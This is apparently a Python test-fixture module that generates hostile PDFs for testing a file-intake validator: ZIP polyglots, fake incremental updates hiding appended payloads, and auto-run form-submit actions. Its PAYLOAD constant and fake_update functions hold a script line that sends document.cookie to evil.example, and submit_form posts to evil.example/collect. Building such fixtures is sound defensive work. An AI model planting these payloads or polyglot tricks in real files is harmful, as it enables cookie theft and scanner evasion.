"""Hostile files an attacker would try at intake: polyglots, payloads posing as updates, actions."""

import re
from pathlib import Path

import pikepdf
from pikepdf import Dictionary, Name

from tests.pdfs import jpeg_rgb, with_catalog_entry, write, zip_bytes


def zip_polyglot(d: Path) -> Path:
    """A valid PDF whose stream holds a ZIP, the ZIP's comment running over the rest of the file:
    a ZIP reader, searching from the end, opens the same bytes as an archive."""
    archive = zip_bytes()
    with pikepdf.open(jpeg_rgb(d)) as pdf:
        pdf.Root.Payload = pdf.make_stream(archive)
        pdf.save(d / "polyglot.pdf", compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    data = bytearray((d / "polyglot.pdf").read_bytes())
    end = data.rfind(b"PK\x05\x06")
    data[end + 20 : end + 22] = (len(data) - end - 22).to_bytes(2, "little")
    return write(d / "polyglot.pdf", bytes(data))


def fake_incremental_update(d: Path) -> Path:
    """A payload after the end-of-file marker, followed by a second marker so it looks like an update."""
    payload = b"<script>fetch('https://evil.example/?c=' + document.cookie)</script>\n" * 12
    return write(d / "fake_update.pdf", jpeg_rgb(d).read_bytes() + payload + b"%%EOF\n")


def real_incremental_update(d: Path) -> Path:
    """A genuine incremental update: a new /Info object, its cross-reference section and trailer."""
    base = jpeg_rgb(d).read_bytes()
    with pikepdf.open(d / "jpeg_rgb.pdf") as pdf:
        size, root = int(pdf.trailer.Size), pdf.Root.objgen[0]
    previous = int(re.findall(rb"startxref\s+(\d+)", base)[-1])
    update = f"{size} 0 obj\n<< /Producer (an update) >>\nendobj\n".encode()
    xref_at = len(base) + len(update)
    xref = (
        f"xref\n{size} 1\n{len(base):010d} 00000 n \ntrailer\n<< /Size {size + 1} /Root {root} 0 R "
        f"/Info {size} 0 R /Prev {previous} >>\nstartxref\n{xref_at}\n%%EOF\n"
    ).encode()
    return write(d / "real_update.pdf", base + update + xref)


def action(d: Path, kind: str, **entries) -> Path:
    return with_catalog_entry(
        d, f"action_{kind}", OpenAction=Dictionary(Type=Name.Action, S=Name(f"/{kind}"), **entries)
    )


def submit_form(d: Path) -> Path:
    return action(d, "SubmitForm", F=pikepdf.String("https://evil.example/collect"))


def import_data(d: Path) -> Path:
    return action(d, "ImportData", F=pikepdf.String("data.fdf"))


def goto_remote(d: Path) -> Path:
    return action(d, "GoToR", F=pikepdf.String("other.pdf"), D=pikepdf.Array([0, Name.Fit]))


def uri_link(d: Path) -> Path:
    return action(d, "URI", URI=pikepdf.String("https://example.org/terms"))


PAYLOAD = b"<script>fetch('https://evil.example/?c=' + document.cookie)</script>\n"


def _last_startxref(data: bytes) -> int:
    return int(re.findall(rb"startxref\s+(\d+)", data)[-1])


def _update_section(d: Path, base: bytes, at: int, objects: bytes = b"") -> bytes:
    """A cross-reference section at offset `at` for `objects` (one new /Info object when given), with a
    trailer whose /Prev is the base's section: a real update when it follows the base directly."""
    with pikepdf.open(d / "jpeg_rgb.pdf") as pdf:
        size, root = int(pdf.trailer.Size), pdf.Root.objgen[0]
    entries = f"{size} 1\n{at - len(objects):010d} 00000 n \n" if objects else "0 1\n0000000000 65535 f \n"
    return (
        f"xref\n{entries}trailer\n<< /Size {size + 1} /Root {root} 0 R /Prev {_last_startxref(base)} >>\n"
        f"startxref\n{at}\n%%EOF\n"
    ).encode()


def long_fake_update(d: Path) -> Path:
    """A payload of more than the 64 KiB tail before the second end-of-file marker."""
    return write(d / "long_fake_update.pdf", jpeg_rgb(d).read_bytes() + PAYLOAD * 1500 + b"%%EOF\n")


def fake_update_with_keywords(d: Path) -> Path:
    """A payload that merely holds the words an update holds: `xref`, `startxref`, an offset."""
    base = jpeg_rgb(d).read_bytes()
    return write(d / "fake_update_keywords.pdf", base + PAYLOAD + b"xref\ntrailer\nstartxref\n9\n%%EOF\n")


def fake_update_pointing_back(d: Path, copies: int = 12) -> Path:
    """A payload, then a final startxref naming the original's (real) cross-reference section."""
    base = jpeg_rgb(d).read_bytes()
    return write(
        d / f"fake_update_back_{copies}.pdf",
        base + PAYLOAD * copies + b"startxref\n%d\n%%%%EOF\n" % _last_startxref(base),
    )


def fake_update_with_a_real_section(d: Path, copies: int = 12) -> Path:
    """A payload, then a well-formed (empty) cross-reference section and trailer that qpdf reads:
    the section is real, what comes before it is not an object."""
    base = jpeg_rgb(d).read_bytes()
    junk = PAYLOAD * copies
    return write(d / f"fake_update_section_{copies}.pdf", base + junk + _update_section(d, base, len(base) + len(junk)))


def large_real_update(d: Path) -> Path:
    """A genuine update whose new object is larger than the 64 KiB tail."""
    base = jpeg_rgb(d).read_bytes()
    producer = b"x" * 100_000
    with pikepdf.open(d / "jpeg_rgb.pdf") as pdf:
        size = int(pdf.trailer.Size)
    update = b"%d 0 obj\n<< /Producer (%s) >>\nendobj\n" % (size, producer)
    return write(d / "large_real_update.pdf", base + update + _update_section(d, base, len(base) + len(update), update))


def linearized(d: Path) -> Path:
    """Its final startxref names the first-page section at the start; that section's /Prev the main one."""
    with pikepdf.open(jpeg_rgb(d)) as pdf:
        pdf.save(d / "linearized.pdf", linearize=True)
    return d / "linearized.pdf"


def xref_stream(d: Path) -> Path:
    with pikepdf.open(jpeg_rgb(d)) as pdf:
        pdf.save(d / "xref_stream.pdf", object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return d / "xref_stream.pdf"


def long_fake_update_pointing_back(d: Path) -> Path:
    return fake_update_pointing_back(d, copies=1500)  # beyond the 64 KiB tail


def long_fake_update_with_a_real_section(d: Path) -> Path:
    return fake_update_with_a_real_section(d, copies=1500)


def _after_junk(path: Path) -> Path:
    """The same file after 8 bytes of junk (tolerated as `leading_bytes`; offsets then count from `%PDF-`)."""
    return write(path.with_name(f"junk_{path.name}"), b"\x00\x01junk\r\n" + path.read_bytes())


def real_update_after_junk(d: Path) -> Path:
    return _after_junk(real_incremental_update(d))


def fake_update_with_a_real_section_after_junk(d: Path) -> Path:
    return _after_junk(long_fake_update_with_a_real_section(d))
